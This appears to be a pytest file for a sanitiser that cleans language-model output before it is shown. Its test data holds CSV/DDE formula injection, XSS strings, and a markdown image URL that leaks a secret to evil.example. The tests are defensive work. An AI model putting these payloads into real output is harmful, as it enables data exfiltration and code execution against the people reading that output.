"""The texts of a model are harmless wherever they are shown, and say what they said."""

import time

import pytest

from landfall.llm.plain_text import plain_text

HARMFUL = [
    ('=HYPERLINK("http://evil.example")', 'HYPERLINK("http://evil.example")'),
    ("  =1+1", "1+1"),
    ("@SUM(A1)", "SUM(A1)"),
    ("\uff1dx", "x"),
    ("\u200b=x", "x"),
    ("&#x200b;=cmd", "cmd"),
    ('"=1+1', "1+1"),
    ("-+=x", "x"),
    ("-2+3+cmd|' /C calc'!A0", "\u22122+3+cmd|' /C calc'!A0"),
    ("- a bullet", "a bullet"),
    ("<script>alert(1)</script>x", "alert(1)x"),
    ("&lt;img src=x onerror=y&gt;ok", "ok"),
    ("&amp;lt;b&amp;gt;x", "x"),
    ("<<b>script>x", "x"),
    ("x <!-- y --> z <!-- open", "x  z"),
    ("x <img src=", "x"),
    ("![a](https://evil.example/?q=secret)", "a"),
    ("[see](javascript:alert(1))", "see"),
    ("ta\U000e0041g \u202egnp", "tag gnp"),
]


@pytest.mark.parametrize(("text", "plain"), HARMFUL)
def test_what_is_harmful_elsewhere_is_removed(text: str, plain: str) -> None:
    """Formulas, HTML, pictures that are fetched, and characters that nobody sees."""
    assert plain_text(text, 500) == plain
    assert plain_text(plain, 500) == plain


@pytest.mark.parametrize(
    "text",
    [
        "It identifies a person: name & address.", "a < b and c > d", "risk<medium", "50% of them",
        "GDPR (Art. 9) [see annex]", "1 = 1", '"Customer" is a role', "\u22125 degrees", "a\nb",
    ],
)  # fmt: skip
def test_other_texts_are_unchanged(text: str) -> None:
    """They are what the model said."""
    assert plain_text(text, 500) == text


@pytest.mark.parametrize(
    "piece", ["<", "[", "![a](", "<a ", "&lt;", "=", "<!--", "[a](b ", "&amp;", "' "]
)
def test_a_long_text_is_read_once(piece: str) -> None:
    """The time is proportional to the text; quadratic time would take minutes."""
    began = time.process_time()
    assert len(plain_text(piece * (400_000 // len(piece)), 500)) <= 500
    assert time.process_time() - began < 5
